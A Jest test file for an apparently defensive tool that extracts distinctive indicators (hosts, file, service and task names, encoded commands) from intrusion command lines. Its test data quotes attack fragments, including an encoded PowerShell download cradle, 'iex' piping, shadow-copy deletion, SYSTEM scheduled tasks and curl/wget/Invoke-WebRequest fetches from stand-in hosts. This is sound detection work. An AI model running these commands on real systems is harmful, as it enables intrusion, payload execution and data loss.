import { cmdletsOf, commandWords, encodedCommand, isDistinctive, namedValues, reportedHosts } from './distinctive-values';

describe("values that make a selection this intrusion's", () => {
  it('does not count switches, schemes, common folders, shells or cmdlet names', () => {
    for (const value of [
      '-nop',
      '-w hidden',
      '-ep bypass',
      '/create',
      '/select,',
      'https://',
      '@/tmp/',
      '\\Downloads\\',
      '\\AppData\\Local\\Temp\\',
      'C:\\ProgramData\\',
      'iwr https://',
      'Start-Service',
      '/p.ps1 | iex',
      '.8.1/',
      'NT AUTHORITY\\SYSTEM',
      'config.json',
      './install.sh',
      'C:\\WINDOWS\\system32\\davclnt.dll,DavSetCookie',
    ]) {
      expect([value, isDistinctive(value)]).toEqual([value, false]);
    }
  });

  it('counts file, folder, service and host names, and behaviours that are the finding alone', () => {
    for (const value of [
      '\\QuillSync\\qsync.exe --tray',
      'C:\\Users\\Public\\lib.dll',
      'scrobj.dll',
      'QuillSyncSvc',
      'files.rivetcloud-share.example:8443',
      '-urlcache',
      'delete shadows',
      '/domain_trusts',
      '$env:APPDATA\\QuillSync\\',
    ]) {
      expect([value, isDistinctive(value)]).toEqual([value, true]);
    }
  });

  it('finds the hosts a command reaches, leaving out code hosts and CDNs', () => {
    expect(reportedHosts('curl -s https://files.rivetcloud-share.example/a -o x && curl https://github.com/x/y')).toEqual([
      'files.rivetcloud-share.example',
    ]);
    expect(reportedHosts('wget http://203.0.113.44:8080/a')).toEqual(['203.0.113.44:8080']);
    expect(reportedHosts('curl http://!h!/a')).toEqual([]);
  });

  it('keeps the start of an encoded command and the names a command gives', () => {
    expect(
      encodedCommand('powershell -nop -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'),
    ).toBe('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA');
    expect(encodedCommand('osascript -e "display dialog"')).toBeNull();
    expect(namedValues('Register-ScheduledTask -TaskName "Quill Sync Heartbeat" -User "SYSTEM" -RunLevel Highest -Force')).toEqual([
      'Quill Sync Heartbeat',
      'SYSTEM',
    ]);
    expect(namedValues('Get-Service -Name QuillSyncSvc')).toEqual(['QuillSyncSvc']);
    // Words as the shared tokenizer splits them: a redirect's target without its operator, a heredoc's body left out.
    expect(namedValues('schtasks /query /tn QuillSync_Daily >C:\\Users\\Public\\quill-tasks.txt')).toEqual([
      'QuillSync_Daily',
      'C:\\Users\\Public\\quill-tasks.txt',
    ]);
    expect(namedValues("cat > quill.sh <<'EOF'\nexport QUILL_HOME=/opt/quill\nEOF")).toEqual(['quill.sh']);
    // A wrapper's quoted command gives its own words, each once: not the whole command, nor the cmdlet and switch before a name.
    expect(namedValues('powershell -w hidden -Command "Stop-Service -Name \\"QuillSyncSvc\\" -Force"')).toEqual(['QuillSyncSvc']);
    expect(namedValues('sudo ./quill start quill_sync')).toEqual(['quill_sync']);
    expect(namedValues('Q=$(curl -s https://quill.example/q.sh)')).toEqual(['https://quill.example/q.sh']);
  });

  it("reads a line's words, programs first when asked, through the shared command-line model", () => {
    // A wrapper's quoted command is its words, not one quoted word; the program word is whole even when its path has a space.
    expect(
      commandWords('powershell -Command "Invoke-WebRequest -OutFile $env:TEMP\\q.js http://quill.example/q.php"', { programs: true }),
    ).toEqual(['powershell', '-Command', 'Invoke-WebRequest', '-OutFile', '$env:TEMP\\q.js', 'http://quill.example/q.php']);
    expect(commandWords('"C:\\Program Files\\Quill\\quill.exe" -c "SELECT name FROM vault"', { programs: true })).toEqual([
      '"C:\\Program Files\\Quill\\quill.exe"',
      '-c',
      '"SELECT name FROM vault"',
    ]);
    expect(commandWords('Q=$(curl -s https://quill.example/q.sh)', { programs: true })).toEqual([
      'curl',
      '-s',
      'https://quill.example/q.sh',
    ]);
    expect(cmdletsOf('powershell -w hidden -c "Get-Service QuillSvc | Stop-Service -Force"')).toEqual(['Get-Service', 'Stop-Service']);
    expect(cmdletsOf('cmd /c whoami')).toEqual([]);
  });
});
